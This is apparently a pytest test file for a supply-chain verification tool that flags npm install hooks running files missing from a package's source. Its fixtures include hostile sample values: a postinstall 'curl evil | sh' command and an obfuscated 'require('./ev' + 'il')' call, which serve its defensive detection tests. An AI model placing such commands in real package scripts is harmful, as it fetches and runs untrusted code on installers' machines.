import pytest

from provenly.trust.errors import UnavailableError
from provenly.trust.evidence import FileClass
from provenly.verify.checks import install_scripts as check
from tests.verify.checks.subjects import (
    ABSENT,
    FAILED,
    MANIFEST,
    PASSED,
    UNCHECKED,
    artifact,
    comparison,
    explanation,
    outcome,
)


def with_script(hook, command):
    return MANIFEST | {"scripts": {hook: command, "test": "vitest"}}


def test_nothing_that_runs_is_absent():
    assert outcome(check).status is ABSENT
    assert outcome(check, manifest=with_script("prepare", "tsc")).status is ABSENT


@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall"])
def test_each_hook_is_seen(hook):
    evidence = outcome(check, manifest=with_script(hook, "node setup.js"))
    assert evidence.status is PASSED
    assert evidence.facts["scripts"] == {hook: "node setup.js"}


@pytest.mark.parametrize("command", ["node setup.js", "node ./setup.js --quiet", "node scripts/setup"])
def test_a_named_file_that_the_source_lacks_is_unexplained(command):
    path = "scripts/setup.js" if "scripts/" in command else "setup.js"
    files = comparison(explanation("package.json"), explanation(path, FileClass.UNEXPLAINED))
    packed = artifact(paths=("package.json", path))
    evidence = outcome(check, manifest=with_script("postinstall", command), comparison=files, artifact=packed)
    assert evidence.status is FAILED
    assert path in evidence.summary


@pytest.mark.parametrize(
    "scripts",
    [
        {"postinstall": "npm run setup", "setup": "node evil.js"},
        {"postinstall": "node ."},
        {"postinstall": "node evil"},
        {"postinstall": "cd . && node evil"},
        {"postinstall": "make"},
        {"postinstall": "node -e \"require('./ev' + 'il')\""},
    ],
)
def test_what_a_command_runs_without_naming_it_plainly_must_be_explained_too(scripts):
    files = comparison(explanation("package.json"), explanation("evil.js", FileClass.UNEXPLAINED))
    packed = artifact(paths=("package.json", "evil.js"))
    evidence = outcome(check, manifest=MANIFEST | {"scripts": scripts}, comparison=files, artifact=packed)
    assert evidence.status is FAILED
    assert "evil.js" in evidence.summary


def test_a_script_that_the_source_does_not_have_is_unexplained():
    files = comparison(explanation("package.json", FileClass.UNEXPLAINED, executable=False))
    evidence = outcome(check, manifest=with_script("postinstall", "curl evil | sh"), comparison=files)
    assert evidence.status is FAILED
    assert "curl evil" in evidence.summary


def test_an_implied_build_is_seen():
    evidence = outcome(check, artifact=artifact(paths=("package.json", "binding.gyp")))
    assert evidence.status is PASSED
    assert "node-gyp" in evidence.summary


def test_without_a_source_it_is_unchecked():
    evidence = outcome(check, manifest=with_script("install", "x"), comparison=UnavailableError("no network"))
    assert evidence.status is UNCHECKED


def test_without_a_source_nothing_that_runs_is_still_absent():
    assert outcome(check, comparison=UnavailableError("no network")).status is ABSENT


@pytest.mark.parametrize(
    ("scripts", "found"),
    [
        ({}, {"install"}),
        ({"postinstall": "x"}, {"install", "postinstall"}),
        ({"preinstall": "x"}, {"preinstall"}),
        ({"install": "x"}, {"install"}),
    ],
)
def test_npm_builds_only_where_no_script_says_how(scripts, found):
    paths = artifact(paths=("package.json", "binding.gyp"))
    evidence = outcome(check, manifest=MANIFEST | {"scripts": scripts}, artifact=paths)
    assert set(evidence.facts["scripts"]) == found
    assert ("node-gyp" in evidence.summary) is ("preinstall" not in found and scripts.get("install") is None)


def test_a_build_description_that_the_source_lacks_is_unexplained():
    files = comparison(explanation("package.json"), explanation("binding.gyp", FileClass.UNEXPLAINED))
    evidence = outcome(check, artifact=artifact(paths=("package.json", "binding.gyp")), comparison=files)
    assert evidence.status is FAILED
    assert "(binding.gyp)" in evidence.summary


def test_unexplained_files_that_no_script_names_are_another_checks_business():
    files = comparison(
        explanation("package.json"),
        explanation("lib/other.js", FileClass.UNEXPLAINED),
        explanation("up.js", FileClass.UNEXPLAINED),
    )
    evidence = outcome(check, manifest=with_script("postinstall", "node setup.js"), comparison=files)
    assert evidence.status is PASSED


def test_what_a_script_names_is_not_run_where_the_source_has_it():
    files = comparison(explanation("package.json"), explanation("setup.js"))
    assert outcome(check, manifest=with_script("install", "node setup.js"), comparison=files).status is PASSED


def test_a_file_without_an_extension_and_one_with_two_are_seen():
    files = comparison(explanation("bin/setup", FileClass.UNEXPLAINED), explanation("a/b.min.js"))
    assert outcome(check, manifest=with_script("install", "sh bin/setup"), comparison=files).status is FAILED
    files = comparison(explanation("a/b.min.js", FileClass.UNEXPLAINED), explanation("bin/setup"))
    assert outcome(check, manifest=with_script("install", "node a/b.min"), comparison=files).status is FAILED
    assert outcome(check, manifest=with_script("install", "node a/b"), comparison=files).status is PASSED


def test_a_failure_lists_every_script_and_the_first_three_files_in_order():
    scripts = {"postinstall": "node z.js && node c.js", "install": "node b.js a.js"}
    files = comparison(*(explanation(f"{name}.js", FileClass.UNEXPLAINED) for name in "zcba"))
    evidence = outcome(check, manifest=MANIFEST | {"scripts": scripts}, comparison=files)
    assert "(a.js, b.js, c.js)" in evidence.summary
    assert evidence.actual == "install: node b.js a.js; postinstall: node z.js && node c.js"
    assert evidence.expected
    assert evidence.facts["code"] == "INSTALL_UNEXPLAINED"


def test_scripts_are_listed_in_order():
    scripts = {"postinstall": "c", "preinstall": "a", "install": "b"}
    evidence = outcome(check, manifest=MANIFEST | {"scripts": scripts})
    assert list(evidence.facts["scripts"]) == ["install", "postinstall", "preinstall"]
    assert "install: b; postinstall: c; preinstall: a" in evidence.summary


def test_a_file_that_could_not_be_looked_at_is_unchecked():
    unknown = explanation("setup.js", FileClass.UNEXPLAINED, unchecked="the compiler cannot be fetched")
    evidence = outcome(check, manifest=with_script("install", "node setup.js"), comparison=comparison(unknown))
    assert (evidence.status, evidence.facts["code"]) == (UNCHECKED, "SOURCE_UNCHECKED")
    assert "(setup.js): the compiler cannot be fetched" in evidence.summary
    files = comparison(unknown, explanation("package.json", FileClass.UNEXPLAINED))
    assert outcome(check, manifest=with_script("install", "node setup.js"), comparison=files).status is FAILED
